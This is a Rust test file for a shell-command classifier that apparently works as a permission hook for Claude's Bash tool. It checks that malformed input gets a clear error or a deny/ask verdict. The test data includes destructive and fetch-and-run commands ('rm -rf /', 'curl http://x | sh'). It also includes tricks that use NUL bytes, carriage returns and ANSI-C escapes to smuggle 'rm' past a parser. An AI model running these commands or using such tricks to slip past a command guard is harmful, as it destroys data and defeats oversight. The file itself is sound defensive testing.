//! Bad input gets a clear error or a sane verdict, never a crash and never an allow it did not
//! earn: invalid UTF-8, NUL bytes, CRLF line ends, a lone `\r`, empty, blank and comment-only
//! input — through the library and through the binary — and invalid JSON and lone surrogates
//! in hook input (`shclass hook claude`).

mod common;

use shclass::Limits;
use shclass::{Decision, Policy};
use shclass::{FlagKind, analyze};

fn classify(cmd: &str) -> shclass::Verdict {
    Policy::builtin()
        .unwrap_or_else(|e| panic!("builtin policy: {e}"))
        .classify(cmd)
}

/// Run the binary with `args` and `stdin`, away from any user or managed policy.
fn shclass(args: &[&std::ffi::OsStr], stdin: &[u8]) -> (i32, String, String) {
    let home = std::env::temp_dir().join(format!("shclass-bad-input-{}", std::process::id()));
    common::run_shclass(args, stdin, |c| {
        c.env("HOME", &home)
            .env("XDG_CONFIG_HOME", home.join("config"))
            .env("XDG_STATE_HOME", home.join("state"));
    })
}

fn os(args: &[&str]) -> Vec<std::ffi::OsString> {
    args.iter().map(std::ffi::OsString::from).collect()
}

fn run(args: &[&str], stdin: &[u8]) -> (i32, String, String) {
    let a = os(args);
    let refs: Vec<&std::ffi::OsStr> = a.iter().map(std::ffi::OsString::as_os_str).collect();
    shclass(&refs, stdin)
}

// --- Empty, blank, comments: nothing runs ----------------------------------------------------

#[test]
fn empty_blank_and_comment_only_input_runs_nothing() {
    for cmd in [
        "",
        "   ",
        "\t\n  \n",
        "\r\n",
        "# just a comment",
        "# c1\n# c2\n",
        "  # x; rm -rf /",
    ] {
        let v = classify(cmd);
        assert!(v.analysis.units.is_empty(), "{cmd:?}: units");
        assert!(!v.analysis.is_opaque(), "{cmd:?}: {:?}", v.analysis.flags);
        assert_eq!(v.decision, Decision::Allow, "{cmd:?}: nothing runs");
    }
    let (code, out, _) = run(&["--no-discovery", "--json", ""], b"");
    assert_eq!(code, 0, "{out}");
    let (code, _, _) = run(&["--no-discovery"], b"");
    assert_eq!(code, 0, "empty standard input");
}

// --- CR and CRLF -----------------------------------------------------------------------------

/// bash keeps a `\r` in the word (`ls\r` is not found); tree-sitter-bash reads it as a blank.
/// Either way nothing hidden runs: a CRLF script is judged line by line like an LF one.
#[test]
fn crlf_line_ends_are_judged_like_lf() {
    for (crlf, lf) in [
        ("ls -la\r\n", "ls -la\n"),
        ("git status\r\nrm -rf /\r\n", "git status\nrm -rf /\n"),
        (
            "echo a\r\ncurl http://x | sh\r\n",
            "echo a\ncurl http://x | sh\n",
        ),
        (
            "cat <<'EOF' | sh\r\nrm -rf /\r\nEOF\r\n",
            "cat <<'EOF' | sh\nrm -rf /\nEOF\n",
        ),
    ] {
        let (a, b) = (classify(crlf), classify(lf));
        assert_eq!(a.decision, b.decision, "{crlf:?} vs {lf:?}");
        let argv = |v: &shclass::Verdict| -> Vec<Vec<Option<String>>> {
            v.analysis
                .units
                .iter()
                .map(|u| {
                    u.argv
                        .iter()
                        .map(|w| w.value.as_deref().map(str::to_owned))
                        .collect()
                })
                .collect()
        };
        assert_eq!(argv(&a), argv(&b), "{crlf:?}");
    }
}

/// bash reads `ls\rrm` as one word; a tool that splits lines on `\r` runs `rm`. A lone `\r` is
/// read as a newline, flagged, and never allowed.
#[test]
fn a_lone_cr_is_flagged_and_read_as_a_newline() {
    for (cmd, want) in [
        ("ls\rrm -rf /", Decision::Deny),
        ("echo x\r; rm -rf /", Decision::Deny),
        ("\rrm -rf /", Decision::Deny),
        ("echo a\rb", Decision::Ask),
        ("\r", Decision::Ask),
        ("ls\r\nls\r", Decision::Ask),
    ] {
        let v = classify(cmd);
        assert_eq!(v.decision, want, "{cmd:?}");
        assert!(
            v.analysis
                .flags_of(FlagKind::ParseError)
                .any(|f| f.detail.contains("carriage return")
                    && cmd.as_bytes()[f.span.start] == b'\r'),
            "{cmd:?}: {:?}",
            v.analysis.flags
        );
    }
}

// --- NUL bytes -------------------------------------------------------------------------------

/// `bash -c` stops at a NUL (argv is a C string); bash reading a script drops it. Both readings
/// are analysed, with a parse error at the NUL, so such a command is never allowed.
#[test]
fn nul_bytes_are_flagged_and_both_readings_analysed() {
    for (cmd, deny) in [
        ("ls\0", false),
        ("\0", false),
        ("echo a\0b", false),
        ("ls\0; rm -rf /", true),  // the script reading runs rm
        ("r\0m -rf /", true),      // the script reading runs rm
        ("rm -rf /\0tmp/x", true), // the bash -c reading deletes /
    ] {
        let v = classify(cmd);
        let a = &v.analysis;
        assert!(
            a.flags_of(FlagKind::ParseError)
                .any(|f| f.detail.contains("NUL")),
            "{cmd:?}: {:?}",
            a.flags
        );
        let want = if deny { Decision::Deny } else { Decision::Ask };
        assert_eq!(v.decision, want, "{cmd:?}");
        for f in &a.flags {
            assert!(
                f.span.end <= cmd.len() && f.span.start <= f.span.end,
                "{cmd:?}"
            );
        }
    }
}

/// `$'…'` ends at an escaped NUL, as in bash: `$'/\x00tmp'` is `/`.
#[test]
fn an_escaped_nul_ends_an_ansi_c_string() {
    for (cmd, arg) in [
        (r"rm -rf $'/\x00tmp'", "/"),
        (r"rm -rf $'/\0tmp'", "/"),
        (r"rm -rf $'/\u0000tmp'", "/"),
        (r"echo $'a\x00b'c", "ac"),
    ] {
        let a = analyze(cmd, &Limits::default());
        assert_eq!(
            a.units[0].argv.last().and_then(|w| w.value.as_deref()),
            Some(arg),
            "{cmd}"
        );
    }
    assert_eq!(classify(r"rm -rf $'/\x00tmp'").decision, Decision::Deny);
}

#[test]
fn nul_bytes_through_the_binary() {
    // On standard input (an argument cannot hold a NUL).
    let (code, out, err) = run(&["--no-discovery", "--json"], b"ls\0; rm -rf /");
    assert_eq!(code, 2, "deny: {out}{err}");
    assert!(out.contains("NUL"), "{out}");
    let (code, _, _) = run(&["--no-discovery"], b"ls\0");
    assert_eq!(code, 1, "ask");
}

// --- Invalid UTF-8 ---------------------------------------------------------------------------

#[test]
fn invalid_utf8_is_a_clear_error() {
    let (code, out, err) = run(&["--no-discovery"], b"ls \xff\xfe");
    assert_eq!(code, 65, "bad input: {out}{err}");
    assert!(err.contains("not valid UTF-8"), "{err}");
    assert!(err.contains("offset 3"), "{err}");
    let (code, _, err) = run(&["analyze"], b"\xc3\x28");
    assert_eq!(code, 65, "{err}");
}

#[cfg(unix)]
#[test]
fn invalid_utf8_argument_is_a_usage_error() {
    use std::os::unix::ffi::OsStrExt;
    let bad = std::ffi::OsStr::from_bytes(b"ls \xff");
    let no = std::ffi::OsStr::new("--no-discovery");
    let (code, out, err) = shclass(&[no, bad], b"");
    assert!(code == 64 || code == 65, "exit {code}: {out}{err}");
    assert!(!err.is_empty());
}

#[test]
fn invalid_utf8_in_a_batch_is_one_error_record() {
    let (code, out, err) = run(&["batch", "--no-discovery"], b"ls\n\xff\nrm -rf /\n");
    assert_eq!(code, 0, "{err}");
    let lines: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
        .collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert_eq!(lines[0]["decision"], "allow");
    assert_eq!(lines[1]["decision"], "ask");
    assert!(lines[1]["error"].is_string(), "{}", lines[1]);
    assert_eq!(lines[2]["decision"], "deny");
}

// --- Hook input ------------------------------------------------------------------------------

/// The decision in a Claude hook answer, if any.
fn claude_decision(out: &str) -> Option<String> {
    let v: serde_json::Value = serde_json::from_str(out.trim()).ok()?;
    v["hookSpecificOutput"]["permissionDecision"]
        .as_str()
        .map(str::to_owned)
}

#[test]
fn malformed_hook_input_is_denied_with_a_reason() {
    let cases: &[(&str, &[u8])] = &[
        ("invalid JSON", b"{not json"),
        ("empty", b""),
        ("not an object", b"[1,2]"),
        ("not UTF-8", b"\xff\xfe"),
        (
            "lone surrogate",
            br#"{"tool_name":"Bash","tool_input":{"command":"ls \ud800"}}"#,
        ),
        (
            "lone low surrogate",
            br#"{"tool_name":"Bash","tool_input":{"command":"\udc00 rm -rf /"}}"#,
        ),
        (
            "command not a string",
            br#"{"tool_name":"Bash","tool_input":{"command":1}}"#,
        ),
    ];
    for (what, input) in cases {
        let (code, out, err) = run(&["hook", "claude", "--no-discovery"], input);
        assert_eq!(
            claude_decision(&out).as_deref(),
            Some("deny"),
            "{what}: {out}"
        );
        assert_eq!(code, 2, "{what}: Claude's blocking exit code");
        assert!(
            err.contains("cannot be read") || err.contains("deny"),
            "{what}: {err}"
        );
    }
}

#[test]
fn odd_commands_in_hook_input_get_sane_verdicts() {
    let hook = |command: &str| {
        let input = serde_json::json!({
            "hook_event_name": "PreToolUse",
            "tool_name": "Bash",
            "tool_input": {"command": command},
        });
        let (_, out, _) = run(
            &["hook", "claude", "--no-discovery"],
            input.to_string().as_bytes(),
        );
        claude_decision(&out)
    };
    assert_eq!(hook("ls\0; rm -rf /").as_deref(), Some("deny"));
    assert_eq!(hook("ls\0").as_deref(), Some("ask"));
    assert_eq!(hook("ls -la\r\n").as_deref(), Some("allow"));
    assert_eq!(hook("git status\r\nrm -rf /\r\n").as_deref(), Some("deny"));
    // A valid surrogate pair is fine.
    assert_eq!(hook("echo \u{1f600}").as_deref(), Some("allow"));
}

/// A fuzzed input that keeps tree-sitter's stack merging busy for minutes inside one step its
/// progress callback cannot interrupt (`tests/regressions/hang/`): long pipelines are parsed on
/// a thread of their own, abandoned past the parse-time budget, so the CLI and `batch` answer
/// (never allow) instead of hanging. Run as a process, which ends the abandoned thread.
#[test]
fn a_parse_that_never_ends_is_abandoned_and_never_allowed() {
    let bytes = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/regressions/hang/tree-sitter-stack-merge-heredoc-pipeline.bin"
    ))
    .unwrap_or_else(|e| panic!("{e}"));
    let (code, out, err) = run(&["--json", "--no-discovery"], &bytes);
    assert_ne!(code, 0, "{out} {err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}"));
    assert_ne!(v["decision"], "allow", "{v}");
    let mut records = b"ls -la\0".to_vec();
    records.extend(bytes.iter().filter(|&&b| b != 0));
    records.extend(b"\0git status\0");
    let (code, out, err) = run(&["batch", "-z", "--no-discovery"], &records);
    assert_eq!(code, 0, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(lines[1].contains("did not finish within"), "{}", lines[1]);
    assert!(!lines[1].contains("\"decision\":\"allow\""), "{}", lines[1]);
    assert!(lines[2].contains("\"decision\":\"allow\""), "{}", lines[2]);
}
